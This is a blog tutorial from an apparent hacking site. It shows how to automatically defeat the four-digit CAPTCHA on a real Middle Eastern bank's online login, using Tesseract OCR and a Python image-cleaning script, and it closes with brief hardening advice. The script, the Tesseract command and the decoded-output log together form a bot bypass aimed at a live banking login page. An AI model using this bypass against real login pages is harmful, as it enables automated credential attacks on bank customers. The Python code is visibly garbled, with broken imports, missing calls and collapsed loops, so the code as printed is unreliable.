All About HackingBlackhat Hacking ToolsFree CoursesHacking

Case Study: Cracking Online Banking CAPTCHA Login Using Python 2023

In this article we will learn about Cracking Online Banking CAPTCHA Login Using Python.

Introduction to Cracking Online Banking CAPTCHA Login Using Python:

CAPTCHA has been implemented for decades to prevent automated scripts (bots) from tampering with registration or login pages. Even though a lot of tools and research have revealed its weakness in the ability to convert an image to plain text, there are still plenty of insecure images being used on sensitive login pages like online banking!

Believe it or not, today we are going to discuss a real-life example of how to hack a login page for one of the largest leading banks in the Middle East!Optical Character Recognition (OCR)

In short, OCR is a technology that allows you to convert scanned images of text into plain text. This allows your script to read the text and send it to the login form just like a human action.

The OCR engine has been developed into many kinds of object-oriented OCR applications, such as OCR of invoices and OCR of legal billing documents. However, here it will be used to defeat CAPTCHA anti-bot systems.

Also Read:Ethical Hacking Interview Questions 2023

Under Linux, Tesseract is the most accurate OCR, although it lacks a graphical user interface (GUI) – only the CLI is needed to achieve our purpose. Installing Tesseract is very straight forward, in Ubuntu distribution problem:

hkhrais@Hkhrais:~$ sudo apt-get install tesseract-ocr

Preparing images for Tesseract

Tesseract is not very flexible when it comes to the format of its input images. Only accepts TIFF images. According to user reports, compressed TIFF images are quite problematic, and the same is true for grayscale and color images. You’re better off with single-bit uncompressed TIFF images.

The process of preparing them using GIMP is very simple:

  • Go to Image → Mode and make sure the image is in RGB orGrayscale mode.
  • Choose Tools→Color Tools→Threshold from the menu and choose the appropriate threshold value.
  • Select Image→Mode→Indexed from the menu and select 1-bit and no decomposition from the options.
  • Save the image in TIFF format with a .tif extension.
  • Note: Version 3.x includes layout analysis and, when compiled with Leptonica, supports all image formats supported by Leptonica. However, to increase the efficiency of the results, we will repeat the above steps automatically using a Python script to clean the image noise, focus the colors and possibly send the output image to Tesseract.

Analysis of the CAPTCHA image

**Disclaimer: Below are an exact samples taken from the login page of X bank without any modification**

In each image we see the following common factors:

-All pictures contain only 4 numbers [written in English]

  • The color of the number is black

-There are no letters of the alphabet

-There is no number rotation [only one angle]

-All numbers are on one line-Noise “which is a line crossing the numbers” can be removed with some image processing techniques.

Almost any image editor like Gimp can denoise these images and center the numbers to make them ready for OCR. With a quick tweak of the color-centered threshold in Gimp, we got the following cleaned-up image:

Now the above output is ready to be used in OCR to print the numbers. Obviously, this step needs to be done automatically by our script.Process automation

Assuming our script goes to the X bank login page, download the CAPTCHA image to the ‘/home/hkhrais/Desktop/Downloaded_CAPTCHA/’ directory. The image preparation process would be:

from import PIL Image
import person
import time

def main():

getlist = os.listdir(“/home/hkhrais/Desktop//Downloaded_CAPTCHA/”)
number = int (len(getlist))
for cap in range(1,number+1):

The script starts by getting the list of downloaded CAPTCHA images stored in “/home/hkhrais/Desktop//Downloaded_CAPTCHA/” and passing the name of the image to a function called crack.

defcrack(cap_name):

img =‘/home/hkhrais/Desktop/Downloaded_CAPTCHA/’+cap_name+’.JPEG’)
img = img.convert(“RGB”)
pixdata = img.load()

for y in xrange(img.size[1]):
for x in xrange(img.size[0]):
if pixdata[x, y][0] < 90:
pixdata[x, y] = (0, 0, 0, 255)
for y in xrange(img.size[1]):
for x in xrange(img.size[0]):
if pixdata[x, y][1] < 136: pixdata[x, y] = (0, 0, 0, 255) for y in xrange(img.size[1]): for x in xrange(img.size[0]): if pixdata[x, y][2] > 0:
pixdata[x, y] = (255, 255, 255, 255)
ext = “.tif”“/home/hkhrais/Desktop/Cleaned_CAPTCHA/”+cap_name + ext)

First, the crack function loads the image into an img object and then converts it to RGB mode (remember theimage preparation process for Tesseract?). The three For iterators are pure image processing that will make the numbers much fatter and clean up the background noise to white. Cleaned .tif images are stored in /home/hkhrais/Desktop/Cleaned_CAPTCHA/. The output would be:

command = “tesseract -psm 7 /home/hkhrais/Desktop/Cleaned_CAPTCHA/”+cap_name +”.tif “+”/home/hkhrais/Desktop/text”

Text = open (“/home/hkhrais/Desktop/text.txt”,”r”)
decoded = Text.readline().strip(‘n’)
if decoded.isdigit():
print ‘[+}CAPTCHA number are ‘ + decoded
print ‘[-] Error : Not able to decode’

One of the weak points mentioned earlier was all the numbers are in single line; Tesseract has a plenty of options for specifying the page/image segmentation mode. In our case here we need to specify segmentation mode number 7 which will treat the image as a single text line.

pagesegmode values are:

0 = Orientation and script detection (OSD) only.
1 = Automatic page segmentation with OSD.
2 = Automatic page segmentation, but no OSD, or OCR
3 = Fully automatic page segmentation, but no OSD. (Default)
4 = Assume a single column of text of variable sizes.
5 = Assume a single uniform block of vertically aligned text.
6 = Assume a single uniform block of text.
7 = Treat the image as a single text line.
8 = Treat the image as a single word.
9 = Treat the image as a single word in a circle.
10 = Treat the image asa single character.

The command line for Tesseract is simple:

#tesseract [-psm # ] <input type=”text” /> <output for=””>

The second part of thesecript is to increase the efficiency of our script. As we saw, all the imagescontain only numbers, so if Tesseract’s output was a special characteror alphabetic letter, then definitely it’s an error! And before submitting the wrong value to the login page, we technically can discard it and submit the next image. Isdigit() function will take care of this portion.

hkhrais@Hkhrais:~$ sudo python /home/hkhrais/Desktop/
[sudo] password for hkhrais:

[+}CAPTCHA number are 5905

[-] Error : Not able to decode

[+}CAPTCHA number are 7588

[+}CAPTCHA number are 6864

[+}CAPTCHA number are 2939

[+}CAPTCHA number are 9536


-Use a complex CAPTCHA, below are good examples, salting with alphabet letters with some rotations are always good.

-Don’t count on CAPTCHA only, step-2 authentication (token) is a perfect option to add as well.


• Optical character recognition

• Tesseract-OCR

• Tesseract usage• Python OCR

Leave a ReplyYour email address will not bepublished. Required fields are marked *